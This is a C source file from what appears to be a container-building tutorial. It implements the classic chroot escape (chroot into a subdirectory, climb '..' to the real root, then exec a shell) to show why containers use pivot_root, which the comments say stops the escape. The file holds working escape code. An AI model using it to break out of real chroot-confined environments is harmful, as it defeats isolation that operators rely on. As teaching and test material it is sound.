/*
 * 08-chroot/escape.c - the classic chroot escape, to show why containers
 * use pivot_root(2).
 *
 * Claim: a root process that was only chroot(2)ed reaches the real root:
 *        after 08's default mode it reads a host file; after 08's --pivot
 *        the same steps stop at the container's own root.
 *        (tested in tests/08-chroot.bats)
 * Uses:  nothing: a separate, static program that mkrootfs.sh ships into
 *        the rootfs as /bin/chroot-escape.
 * Read:  chroot(2) (its NOTES say this), path_resolution(7), pivot_root(2)
 *
 *   chroot-escape [command [args...]]        default: /bin/sh
 *
 * chroot(2) changes one thing: where path resolution starts for "/", and
 * where ".." stops. It does not change the working directory. So:
 *
 *   1. chroot("/tmp")   the root is now ROOTFS/tmp, but the working
 *                       directory is still ROOTFS: outside the root.
 *   2. chdir("..")      the kernel stops ".." only AT the root; we are
 *                       not at it and never will be, so each step climbs,
 *                       up to the mount namespace's real "/".
 *   3. chroot(".")      make that the root, and run the command there.
 *
 * After pivot_root(2) and the detach of the old root (08's --pivot), the
 * old root is not in the mount tree any more: the ".." of the container's
 * root mount is itself, and step 2 climbs zero levels.
 */
#include <err.h>
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* A subdirectory every rootfs has (mkrootfs.sh makes it). */
#define INNER_ROOT "/tmp"
#define MAX_CLIMB 256

/* Climbs ".." until it stops moving. Returns the number of levels
 * climbed, or -1 after saying why. */
static int climb_to_top(void)
{
	struct stat here, up;
	int levels;

	for (levels = 0; levels < MAX_CLIMB; levels++) {
		if (stat(".", &here) < 0 || stat("..", &up) < 0) {
			warn("stat");
			return -1;
		}
		/* ".." is "." only at the top of the tree we can see. */
		if (here.st_dev == up.st_dev && here.st_ino == up.st_ino)
			return levels;
		if (chdir("..") < 0) {
			warn("chdir ..");
			return -1;
		}
	}
	warnx("still climbing after %d levels", MAX_CLIMB);
	return -1;
}

int main(int argc, char **argv)
{
	static char *default_cmd[] = {"/bin/sh", NULL};
	char **cmd = argc > 1 ? argv + 1 : default_cmd;
	int levels;

	if (chroot(INNER_ROOT) < 0)
		err(125, "chroot %s (are we root, and does it exist?)",
		    INNER_ROOT);
	/* No chdir("/") here: that is the whole trick. */
	levels = climb_to_top();
	if (levels < 0)
		return 125;
	if (chroot(".") < 0)
		err(125, "chroot .");
	if (levels > 0)
		fprintf(stderr, "chroot-escape: climbed %d levels above the "
				"root: now at the real /\n",
			levels);
	else
		fprintf(stderr, "chroot-escape: climbed 0 levels: '..' of "
				"the root is the root itself\n");

	execvp(cmd[0], cmd);
	warn("exec %s", cmd[0]);
	return errno == ENOENT ? 127 : 126;
}
